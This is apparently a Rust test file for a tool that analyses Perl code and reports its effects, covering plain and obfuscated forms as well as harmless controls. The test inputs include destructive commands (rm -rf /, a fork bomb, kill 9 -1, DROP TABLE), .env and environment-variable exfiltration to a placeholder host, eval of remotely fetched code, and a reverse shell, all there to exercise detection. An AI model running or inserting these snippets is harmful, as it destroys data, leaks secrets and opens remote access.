//! Perl.

use super::{Language, check};

#[test]
fn code_takes_its_steps() {
    check(
        Language::Perl,
        &[
            ("system(\"rm -rf ~\")", &["shell rm -rf ~"]),
            ("system 'rm', '-rf', '/';", &["words rm | -rf | /"]),
            ("exec \"ls -l\"", &["shell ls -l"]),
            ("my $x = `cat .env`; print $x", &["shell cat .env", "print ?<output of cat .env>"]),
            ("print qx{ls $ENV{HOME}}", &["shell ls /home/u", "print ?<output of ls /home/u>"]),
            ("my @c = ('rm', '-rf', '/'); system(@c);", &["words rm | -rf | /"]),
            ("system(qw(rm -rf /))", &["words rm | -rf | /"]),
            ("unlink \"a\", \"b\" or die;", &["delete a", "delete b", "print "]),
            ("unlink glob('*.o')", &["delete *.o"]),
            ("unlink <*.tmp>", &["delete *.tmp"]),
            ("unlink $_ for ('a', 'b')", &["delete a or b"]),
            ("for my $f (qw(a b)) { unlink $f }", &["delete a or b"]),
            ("foreach (glob '/etc/*') { unlink }", &["delete /etc/*"]),
            ("use File::Path; remove_tree(\"/home\")", &["delete /home with all below"]),
            ("File::Path::rmtree('/')", &["delete / with all below"]),
            (
                "rename 'a', 'b'; use File::Copy; copy('.env', 'x')",
                &["move a b", "read .env", "write x: ?<file .env>"],
            ),
            ("chmod 0777, '/etc'", &["permit /etc 777"]),
            ("open(F, '>', '.env'); print F \"x=1\\n\"; close F", &["write .env: x=1\n"]),
            ("open(my $fh, '>>/etc/hosts'); print $fh 'a'; print {$fh} 'b'", &["write /etc/hosts: ab"]),
            ("open(F, '.env'); print <F>", &["read .env", "print ?<file .env>"]),
            (
                "open(my $f, '<', '.env') or die; while (my $l = <$f>) { print $l }",
                &["read .env", "print ", "print ?<file .env>"],
            ),
            ("open(P, 'rm -rf / |')", &["shell rm -rf /"]),
            ("open(P, '|-', 'sh', '-c', 'ls')", &["words sh | -c | ls"]),
            ("print $ENV{API_KEY}", &["print ?<$API_KEY>"]),
            ("print \"key: $ENV{'API_KEY'}\\n\"", &["print key: ?\n<$API_KEY>"]),
            ("print map { \"$_=$ENV{$_}\\n\" } keys %ENV", &["print ?=?\n<environment>"]),
            (
                "use LWP::Simple; eval get('https://g.example/x')",
                &["fetch https://g.example/x", "evaluate ?<https://g.example/x>"],
            ),
            (
                "LWP::UserAgent->new->post('https://c.example', Content => `cat .env`)",
                &["shell cat .env", "send ?<output of cat .env> to https://c.example"],
            ),
            (
                "use Socket;$s=IO::Socket::INET->new(PeerAddr=>'10.0.0.1:80');open(STDIN,'>&S');exec('/bin/sh -i')",
                &["fetch 10.0.0.1:80", "shell ?<10.0.0.1:80>", "shell /bin/sh -i", "shell ?<10.0.0.1:80>"],
            ),
            ("print <>", &["read first", "print ?<file first>"]),
            ("print while <>", &["read first", "print ?<file first>"]),
            ("print <STDIN>", &["print ?"]),
            ("fork while 1", &["linger", "exhaust forks without end"]),
            ("while(1){fork}", &["linger", "exhaust forks without end"]),
            (
                "fork while fork",
                &["linger", "exhaust forks without end", "linger", "exhaust forks without end"],
            ),
            ("kill 9, -1", &["kill -1"]),
            ("$dbh->do('DROP TABLE users')", &["sql DROP TABLE users"]),
            ("do 'x.pl'", &["import x.pl"]),
        ],
    );
}

#[test]
fn disguises_are_seen_through() {
    check(
        Language::Perl,
        &[
            ("system(pack(\"H*\",\"726d202d7266207e\"))", &["shell rm -rf ~"]),
            ("use MIME::Base64; system(decode_base64('cm0gLXJmIH4='))", &["shell rm -rf ~"]),
            ("system(join '', map { chr } (108, 115))", &["shell ls"]),
            ("system(chr(108).chr(115))", &["shell ls"]),
            ("system(scalar reverse 'sl')", &["shell ls"]),
            ("my $a = 'rm'; my $b = \"$a -rf\"; system(\"$b /\")", &["shell rm -rf /"]),
            ("$c = 'rm'; $c .= ' x'; system $c", &["shell rm x"]),
            ("system(\"@{['rm', '-rf']} /\")", &["shell rm -rf /"]),
            ("eval 'system(\"ls\")'", &["shell ls"]),
            ("eval { system('ls') }", &["shell ls"]),
            ("sub run { my ($c) = @_; system($c) } run('ls')", &["shell ls"]),
            ("sub run { my $c = shift; system $c } run('ls')", &["shell ls"]),
            ("my $f = sub { system($_[0]) }; $f->('ls')", &["shell ls"]),
            ("&run('ls'); sub run { system(@_) }", &["shell ls"]),
            ("CORE::system('ls')", &["shell ls"]),
            ("system(sprintf('%s -rf %s', 'rm', '/'))", &["shell rm -rf /"]),
            ("system 'rm -rf ' . ($x || '/')", &["shell rm -rf ?"]),
            ("system($ARGV[0])", &["shell first"]),
            ("system <<EOF;\nls -l\nEOF\nunlink 'x';", &["shell ls -l\n", "delete x"]),
            ("my $c = 'xx -rf /'; $c =~ s/xx/rm/; system($c);", &["shell rm -rf /"]),
            ("(my $c = 'xs') =~ s/x/l/; system($c)", &["shell ls"]),
            ("system(substr('xls', 1))", &["shell ls"]),
            ("system(substr('xls', -2, 7))", &["shell ls"]),
            ("my $c = 'xx -rf /'; $c =~ tr/x/y/; system($c);", &["shell ?<crafted>"]),
            ("my @c = ('rm'); push(@c, '-rf'); push @c, '/'; system(@c)", &["words rm | -rf | /"]),
            (
                "find(sub { unlink $File::Find::name if -f }, '/data')",
                &["list /data", "delete /data/ with all below"],
            ),
            ("system q(echo (a) b)", &["shell echo (a) b"]),
        ],
    );
}

#[test]
fn harmless_code_takes_no_steps_or_only_prints() {
    check(
        Language::Perl,
        &[
            ("s/rm -rf \\//x/g; print", &["print "]),
            ("$x =~ s{system(\"ls\")}{y}; $y = tr/a-z/A-Z/;", &[]),
            ("print length('rm -rf /')", &["print ?"]),
            ("# system('ls')\nmy $x = 1;", &[]),
            ("my %h = (cmd => 'rm -rf /', s => 1); print $h{cmd}", &["print rm -rf /"]),
            ("print 'unlink(\"/\")'", &["print unlink(\"/\")"]),
            ("if ($x eq 'rm -rf /') { die 'no' }", &["print no"]),
            ("print if /system\\(/", &["print "]),
            ("my @l = split /,/, $x; print $#l, scalar(@l)", &["print ? ?"]),
            ("print \"a\" x 3", &["print aaa"]),
            ("die \"x\" unless -s $file;", &["print x"]),
            ("print 1 if $x / 2 > 3; print 'y' if $z / 4", &["print 1", "print y"]),
        ],
    );
}

#[test]
fn code_in_a_regular_expression_runs() {
    check(
        Language::Perl,
        &[
            ("s/x/`git reset --hard`/e", &["shell git reset --hard"]),
            ("s/.*/system(\"ls\")/ge", &["shell ls"]),
            ("s{x}{qx(rm -rf /)}e", &["shell rm -rf /"]),
            ("$x =~ s/x/unlink('a')/e", &["delete a"]),
            ("s/x/'unlink(q(a))'/ee", &["delete a"]),
            ("s/x/@{[ unlink('a') ]}/", &["delete a"]),
            ("/(?{ system(\"ls\") })/", &["shell ls"]),
            ("print if m{(??{ unlink('a') })}", &["delete a", "print "]),
            ("$x =~ qr/@{[ unlink('a') ]}/", &["delete a"]),
            ("s/x/system(\"ls\")/", &[]),
            ("s/(?:a{2})$/unlink/; /^a{1,2}$/", &[]),
        ],
    );
}

#[test]
fn a_slash_behind_an_operand_divides() {
    check(
        Language::Perl,
        &[
            ("$x = $y++ / 2; system(\"ls a/b\")", &["shell ls a/b"]),
            ("$x = $y{a} / 2; system(\"ls a/b\")", &["shell ls a/b"]),
            ("$x = $y->{a}{b} / 2; system(\"ls a/b\")", &["shell ls a/b"]),
            ("@l = split /system('ls')/, $x; unlink 'a/b'", &["delete a/b"]),
            ("$x = SIZE /2; unlink 'a/b'", &["delete a/b"]),
            ("$x = time /2; unlink 'a/b'", &["delete a/b"]),
        ],
    );
}

#[test]
fn a_block_before_the_words_names_the_program() {
    check(
        Language::Perl,
        &[
            ("system { \"git\" } \"git\", \"reset\", \"--hard\"", &["words git | reset | --hard"]),
            ("exec {\"/bin/rm\"} \"ls\", \"-rf\", \"/etc\"", &["words /bin/rm | -rf | /etc"]),
            ("exec{'/bin/rm'} 'ls', '-rf', '/etc'", &["words /bin/rm | -rf | /etc"]),
            ("my $p = 'rm'; system {$p} 'ls', '-rf', '/'", &["words rm | -rf | /"]),
            ("system({ $ARGV[0] } 'rm', '-rf', '/')", &["words first | -rf | /"]),
        ],
    );
}
